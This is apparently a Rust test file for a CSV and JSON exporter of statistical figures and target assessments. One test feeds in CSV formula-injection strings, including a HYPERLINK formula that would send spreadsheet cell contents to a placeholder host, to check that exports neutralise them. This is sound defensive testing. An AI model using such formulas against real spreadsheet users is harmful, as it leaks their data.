//! The files are read back by other means than they were written by, and held against the dataset.

use std::collections::{BTreeMap, BTreeSet};

use crate::assess::assess;
use crate::locale::{Language, Text};
use crate::model::testing::{dataset, figure};
use crate::model::{
    Dataset, Document, DocumentId, OrganizationId, ResolutionId, SourceRef, StatedIn, Unit, UnitId,
};

use super::*;

/// A row as a program reads it: by the names of the columns.
type Row = BTreeMap<String, String>;

const GROUND: &str = "
    as-of 2024-12-31
    dimension sex exhaustive women men
    dimension priority-group partial pupils students
    indicator admitted flow sex priority-group
    indicator members stock
    indicator rate-of-women share
    organization a
    organization b until=2024-07-01 into=c
    organization c from=2024-07-01
    document d date=2024-12-31
";

const FIGURES: &str = "
    figure a/2023/admitted 1399 status=official section=I.2
    figure a/2023/admitted[sex=women] 699 status=preliminary
    figure a/2023/admitted[sex=women,priority-group=pupils] 12 status=estimate
    figure a/2024/admitted -
    figure a/2024/members 12.50 date=2024-06-30
    figure a/2023/members 1234567 date=unknown
    figure b/2018-2022/rate-of-women 66.2 step=0.1
    figure b/2023/admitted not-available
    figure b/2024/admitted not-applicable
    figure c/2023/admitted confidential
    figure c/2024/admitted suppressed
    figure c/2024/members -3.5
";

const TARGETS: &str = "
    resolution r a
    resolution s b
    resolution empty a
    target r/t admitted a,b between=1020..1250 period=2023-2024 every=year
    target r/old admitted a exactly=10 period=2023 derived=d/claim
    target s/share rate-of-women b at-least=66.20 period=2018-2022
";

fn with(texts: &[&str]) -> Dataset {
    dataset(&texts.join("\n"))
}

fn file(data: &Dataset, path: &str) -> String {
    let assessments = assess(data);
    let files = export(data, &assessments);
    let found = files.iter().find(|file| file.path.as_str() == path);
    let bytes = found.unwrap_or_else(|| panic!("{path} is made")).bytes();
    String::from_utf8(bytes).unwrap()
}

fn paths(data: &Dataset) -> Vec<String> {
    let assessments = assess(data);
    let files = export(data, &assessments);
    files.iter().map(|file| file.path.to_string()).collect()
}

fn csv_rows(text: &str) -> Vec<Row> {
    let text = text
        .strip_prefix('\u{FEFF}')
        .expect("CSV begins with a byte order mark");
    let mut reader = ::csv::Reader::from_reader(text.as_bytes());
    reader.deserialize().collect::<Result<_, _>>().unwrap()
}

fn json_rows(text: &str) -> Vec<Row> {
    let rows: Vec<BTreeMap<String, serde_json::Value>> = serde_json::from_str(text).unwrap();
    let word = |value: serde_json::Value| match value {
        serde_json::Value::Bool(flag) => flag.to_string(),
        serde_json::Value::String(text) => text,
        other => panic!("{other} is neither text nor yes or no"),
    };
    let row = |row: BTreeMap<String, serde_json::Value>| {
        row.into_iter().map(|(name, value)| (name, word(value))).collect()
    };
    rows.into_iter().map(row).collect()
}

/// The row of a figure.
fn of<'r>(rows: &'r [Row], reference: &str) -> &'r Row {
    let found = rows.iter().find(|row| row["figure"] == reference);
    found.unwrap_or_else(|| panic!("{reference} has a row"))
}

fn references(rows: &[Row]) -> Vec<&str> {
    rows.iter().map(|row| row["figure"].as_str()).collect()
}

#[test]
fn every_observation_is_in_the_files_it_belongs_to_once() {
    let data = with(&[GROUND, FIGURES]);
    let observations = || {
        let by_period = data.observations.values().flat_map(BTreeMap::values);
        by_period.flat_map(BTreeMap::values)
    };
    let references_where = |wanted: &dyn Fn(&crate::model::FigureRef) -> bool| -> BTreeSet<String> {
        let figures = observations().map(|observation| &observation.figure);
        figures
            .filter(|figure| wanted(figure))
            .map(ToString::to_string)
            .collect()
    };
    let holds = |path: &str, expected: BTreeSet<String>| {
        for (format, rows) in [
            ("csv", csv_rows(&file(&data, &format!("{path}.csv")))),
            ("json", json_rows(&file(&data, &format!("{path}.json")))),
        ] {
            let found = references(&rows);
            assert_eq!(found.len(), expected.len(), "{path}.{format}: {found:?}");
            let found: BTreeSet<String> = found.into_iter().map(ToOwned::to_owned).collect();
            assert_eq!(found, expected, "{path}.{format}");
        }
    };
    holds("downloads/figures", references_where(&|_| true));
    for id in data.organizations.keys() {
        let expected = references_where(&|figure| figure.organization == *id);
        holds(&format!("organizations/{id}/figures"), expected);
    }
    for id in data.indicators.keys() {
        let expected = references_where(&|figure| figure.measure.indicator == *id);
        holds(&format!("indicators/{id}/figures"), expected);
    }
}

#[test]
fn a_reference_in_a_file_leads_back_to_its_figure() {
    let data = with(&[GROUND, FIGURES]);
    for row in csv_rows(&file(&data, "downloads/figures.csv")) {
        let found = figure(&data, &row["figure"]);
        assert!(data.observation(&found).is_some(), "{}", row["figure"]);
        assert_eq!(row["organization"], found.organization.as_str());
        assert_eq!(row["indicator"], found.measure.indicator.as_str());
        assert_eq!(row["cell"], found.measure.cell.to_string());
        assert_eq!(row["period"], found.period.code());
        let (page, anchor) = route::figure(&found);
        let page = route::route(&data.publication, data.publication.default_language(), &page);
        assert_eq!(row["page"], format!("{page}#{}", anchor.as_str()));
    }
}

#[test]
fn both_formats_say_the_same() {
    let data = with(&[GROUND, FIGURES, TARGETS]);
    for path in paths(&data).iter().filter_map(|path| path.strip_suffix(".csv")) {
        let csv = csv_rows(&file(&data, &format!("{path}.csv")));
        assert!(!csv.is_empty(), "{path}");
        let filled = |mut row: Row| {
            row.retain(|_, field| !field.is_empty());
            row
        };
        let csv: Vec<Row> = csv.into_iter().map(filled).collect();
        assert_eq!(csv, json_rows(&file(&data, &format!("{path}.json"))), "{path}");
    }
}

#[test]
fn numbers_are_as_written_in_no_language() {
    let data = with(&[GROUND, FIGURES]);
    for rows in [
        csv_rows(&file(&data, "downloads/figures.csv")),
        json_rows(&file(&data, "downloads/figures.json")),
    ] {
        assert_eq!(of(&rows, "a/2023/members")["value"], "1234567");
        assert_eq!(of(&rows, "a/2024/members")["value"], "12.50");
        assert_eq!(of(&rows, "c/2024/members")["value"], "-3.5");
        let rounded = of(&rows, "b/2018-2022/rate-of-women");
        let said = ["value", "lower", "upper"].map(|name| rounded[name].as_str());
        assert_eq!(said, ["66.2", "66.15", "66.25"]);
        let exact = of(&rows, "a/2023/admitted").get("lower");
        assert!(exact.is_none_or(String::is_empty), "{exact:?}");
    }
}

#[test]
fn what_is_no_number_says_why() {
    let data = with(&[GROUND, FIGURES]);
    let rows = csv_rows(&file(&data, "downloads/figures.csv"));
    for (reference, word) in [
        ("a/2024/admitted", "did-not-occur"),
        ("b/2023/admitted", "not-available"),
        ("b/2024/admitted", "not-applicable"),
        ("c/2023/admitted", "confidential"),
        ("c/2024/admitted", "suppressed"),
    ] {
        let row = of(&rows, reference);
        assert_eq!(
            (row["value"].as_str(), row["missing"].as_str()),
            ("", word),
            "{reference}"
        );
    }
    for row in &rows {
        assert_ne!(row["value"].is_empty(), row["missing"].is_empty(), "{row:?}");
    }
}

#[test]
fn a_row_says_what_its_figure_is_of() {
    let data = with(&[GROUND, FIGURES]);
    let rows = csv_rows(&file(&data, "organizations/a/figures.csv"));
    let crossed = of(&rows, "a/2023/admitted[priority-group=pupils,sex=women]");
    for (name, value) in [
        ("by_sex", "women"),
        ("by_priority-group", "pupils"),
        ("cell_vi", "priority-group: pupils, sex: women"),
        ("kind", "flow"),
        ("status", "E"),
        ("period_start", "2023-01-01"),
        ("period_end", "2023-12-31"),
        ("date", ""),
        ("source", "d"),
        ("source_section", ""),
    ] {
        assert_eq!(crossed[name], value, "{name}");
    }
    let total = of(&rows, "a/2023/admitted");
    assert_eq!((total["by_sex"].as_str(), total["cell_vi"].as_str()), ("", ""));
    assert_eq!(
        (total["status"].as_str(), total["source_section"].as_str()),
        ("A", "I.2")
    );
    assert_eq!(of(&rows, "a/2023/admitted[sex=women]")["status"], "P");
    assert_eq!(
        of(&rows, "a/2024/admitted")["status"],
        "",
        "its source states none"
    );
    assert_eq!(of(&rows, "a/2024/members")["date"], "2024-06-30");
    assert_eq!(of(&rows, "a/2023/members")["date"], "", "its source does not say");
    let all = csv_rows(&file(&data, "downloads/figures.csv"));
    assert_eq!(of(&all, "b/2018-2022/rate-of-women")["unit"], "percent");
}

#[test]
fn names_are_in_each_language_that_they_are_written_in() {
    let mut data = with(&[GROUND, FIGURES]);
    let [vi, en] = ["vi", "en"].map(|code| Language::new(code).unwrap());
    data.publication.languages = vec![vi.clone(), en.clone()];
    let each = |texts: &[(&Language, &str)]| {
        let texts = texts.iter();
        Text::Each(
            texts
                .map(|(language, text)| ((*language).clone(), (*text).into()))
                .collect(),
        )
    };
    let person = UnitId::new("person").unwrap();
    let name = each(&[(&vi, "người"), (&en, "people")]);
    data.units.insert(
        person.clone(),
        Unit {
            id: person.clone(),
            name,
        },
    );
    for indicator in data
        .indicators
        .values_mut()
        .filter(|it| it.id.as_str() == "members")
    {
        indicator.unit = Some(person.clone());
        indicator.name = each(&[(&vi, "Đảng viên")]);
    }
    let rows = csv_rows(&file(&data, "indicators/members/figures.csv"));
    let row = of(&rows, "a/2024/members");
    for (name, value) in [
        ("indicator_vi", "Đảng viên"),
        ("indicator_en", ""),
        ("organization_en", "a"),
        ("unit", "person"),
        ("unit_vi", "người"),
        ("unit_en", "people"),
    ] {
        assert_eq!(row[name], value, "{name}");
    }
}

#[test]
fn text_of_the_publication_cannot_become_a_formula_or_break_a_row() {
    let evil = [
        "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
        "+84",
        "-1+1",
        "@SUM(1)",
        "dòng một\r\n=2,\"ba\"",
        "một;=1+1",
        "\"",
        ",",
    ];
    for text in evil {
        let mut data = with(&[GROUND, "figure a/2024/members -7"]);
        let id = OrganizationId::new("a").unwrap();
        data.organizations.get_mut(&id).unwrap().name = text.into();
        for document in data.documents.values_mut() {
            *document = Document {
                number: Some(text.to_owned()),
                ..document.clone()
            };
        }
        for observation in data.observations.values_mut().flat_map(BTreeMap::values_mut) {
            for observation in observation.values_mut() {
                observation.note = Some(text.into());
                observation.source.section = Some(text.to_owned());
            }
        }
        let written = csv_rows(&file(&data, "downloads/figures.csv"));
        assert_eq!(written.len(), 1, "{text}");
        for name in ["organization_vi", "source_number", "source_section", "note"] {
            let field = &written[0][name];
            assert!(!field.starts_with(['=', '+', '-', '@']), "{name}: {field}");
            assert_eq!(field.replace('\'', ""), text.replace('\'', ""), "{name}");
        }
        assert_eq!(written[0]["value"], "-7", "a number is no formula");
        let json = json_rows(&file(&data, "downloads/figures.json"));
        assert_eq!(
            json[0]["note"], text,
            "no program takes a string of JSON for a formula"
        );
    }
}

#[test]
fn lines_end_as_the_standard_says_and_json_has_no_byte_order_mark() {
    let data = with(&[GROUND, FIGURES]);
    let csv = file(&data, "downloads/figures.csv");
    assert!(csv.ends_with("\r\n"));
    assert_eq!(csv.matches('\n').count(), csv.matches("\r\n").count());
    assert!(file(&data, "downloads/figures.json").starts_with("[\n{\"figure\":\"a/2023/admitted\","));
}

#[test]
fn all_files_of_figures_have_the_same_columns() {
    let data = with(&[GROUND, FIGURES]);
    let heads: BTreeSet<String> = paths(&data)
        .iter()
        .filter(|path| path.ends_with("figures.csv"))
        .map(|path| file(&data, path).lines().next().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(heads.len(), 1);
}

#[test]
fn what_would_hold_nothing_is_not_made() {
    assert_eq!(paths(&with(&[GROUND])), Vec::<String>::new());
    let data = with(&[GROUND, "figure a/2024/members 7", TARGETS]);
    let found = paths(&data);
    for path in [
        "downloads/figures.csv",
        "downloads/figures.json",
        "downloads/assessments.csv",
        "organizations/a/figures.csv",
        "indicators/members/figures.json",
        "resolutions/r/assessments.csv",
    ] {
        assert!(found.iter().any(|found| found == path), "{path}");
    }
    for path in [
        "organizations/b/figures.csv",
        "indicators/admitted/figures.csv",
        "resolutions/empty/assessments.csv",
    ] {
        assert!(!found.iter().any(|found| found == path), "{path}");
    }
}

/// The rows of one target, in its resolution's file, which has the same rows as the publication's.
fn of_target(data: &Dataset, reference: &str) -> Vec<Row> {
    let (resolution, _) = reference.split_once('/').unwrap();
    let whole = csv_rows(&file(data, "downloads/assessments.csv"));
    let own = csv_rows(&file(data, &format!("resolutions/{resolution}/assessments.csv")));
    let of_resolution = whole.into_iter().filter(|row| row["resolution"] == resolution);
    assert_eq!(own, of_resolution.collect::<Vec<_>>());
    own.into_iter().filter(|row| row["target"] == reference).collect()
}

fn columns<const N: usize>(row: &Row, names: [&str; N]) -> [String; N] {
    names.map(|name| row[name].clone())
}

#[test]
fn an_assessment_says_what_was_asked_and_what_came_of_it() {
    let data = with(&[GROUND, FIGURES, TARGETS]);
    let rows = of_target(&data, "r/t");
    let told: Vec<_> = rows
        .iter()
        .map(|row| {
            columns(
                row,
                ["organization", "period", "role", "result", "reason", "value"],
            )
        })
        .collect();
    assert_eq!(
        told,
        [
            ["a", "2023", "judged", "above-range", "", "1399"],
            ["a", "2024", "judged", "missed", "", "0"],
            ["b", "2023", "judged", "no-data", "not-available", ""],
            ["b", "2024", "judged", "not-assessable", "organization-ended", ""],
        ]
    );
    let first = &rows[0];
    let asked = columns(first, ["bound", "low", "high", "basis", "claim"]);
    assert_eq!(asked, ["between", "1020", "1250", "stated", ""]);
    let distances = columns(
        first,
        [
            "distance_low",
            "distance_high",
            "distance_high_percent",
            "near_miss",
        ],
    );
    assert_eq!(distances, ["379", "149", "11.92", "false"]);
    assert_eq!(first["figures"], "a/2023/admitted");
    assert_eq!(first["page"], "resolutions/r/index.html#target--t_a_2023");
    assert_eq!(rows[2]["figures_missing"], "b/2023/admitted");
    assert_eq!(rows[3]["reason_date"], "2024-07-01");
    let derived = &of_target(&data, "r/old")[0];
    assert_eq!(
        columns(derived, ["bound", "basis", "claim"]),
        ["exactly", "derived", "d/claim"]
    );
    let undecided = &of_target(&data, "s/share")[0];
    assert_eq!(
        columns(undecided, ["result", "low", "value", "lower", "upper"]),
        ["undecided", "66.20", "66.2", "66.15", "66.25"]
    );
}

#[test]
fn a_target_names_the_document_that_gives_it() {
    let mut data = with(&[GROUND, FIGURES, TARGETS, "document other"]);
    let [own, other] = ["d", "other"].map(|id| DocumentId::new(id).unwrap());
    let resolution = data
        .resolutions
        .get_mut(&ResolutionId::new("r").unwrap())
        .unwrap();
    resolution.document = Some(own);
    for target in &mut resolution.targets {
        target.section = Some("II.1".to_owned());
        if target.id.as_str() == "old" {
            let section = Some("III".to_owned());
            let source = SourceRef {
                document: other.clone(),
                section,
            };
            target.stated_in = Some(StatedIn { source });
        }
    }
    let source = |reference| columns(&of_target(&data, reference)[0], ["source", "section"]);
    assert_eq!(source("r/t"), ["d", "II.1"]);
    assert_eq!(source("r/old"), ["other", "III"]);
    assert_eq!(source("s/share"), ["", ""], "its text is not at hand");
}

#[test]
fn an_average_is_no_verdict() {
    let data = with(&[
        GROUND,
        "figure a/2018-2022/admitted 4715",
        "resolution r a",
        "target r/t admitted a between=1020..1250 period=2024-2030 every=year",
    ]);
    let rows = of_target(&data, "r/t");
    let average: Vec<_> = rows.iter().filter(|row| row["role"] != "judged").collect();
    assert_eq!(average.len(), 1);
    let told = columns(
        average[0],
        ["role", "period", "result", "side", "value", "years", "average"],
    );
    assert_eq!(told, ["baseline", "2018-2022", "", "below", "4715", "5", "943"]);
    assert_eq!(average[0]["near_miss"], "");
    assert_eq!(
        average[0]["page"],
        "resolutions/r/index.html#target--t_a_2018-2022"
    );
}

#[test]
fn a_period_that_is_not_over_says_how_far_it_is() {
    let data = with(&[
        GROUND,
        "as-of 2024-10-08",
        "figure c/2024-07-01--2024-10-08/admitted 30",
        "resolution r c",
        "target r/t admitted c at-least=92 period=2024-H2",
    ]);
    let row = &of_target(&data, "r/t")[0];
    let told = columns(
        row,
        ["result", "days_gone", "days", "value_until", "pace", "needed_low"],
    );
    assert_eq!(told, ["in-progress", "100", "184", "2024-10-08", "behind", "62"]);
}
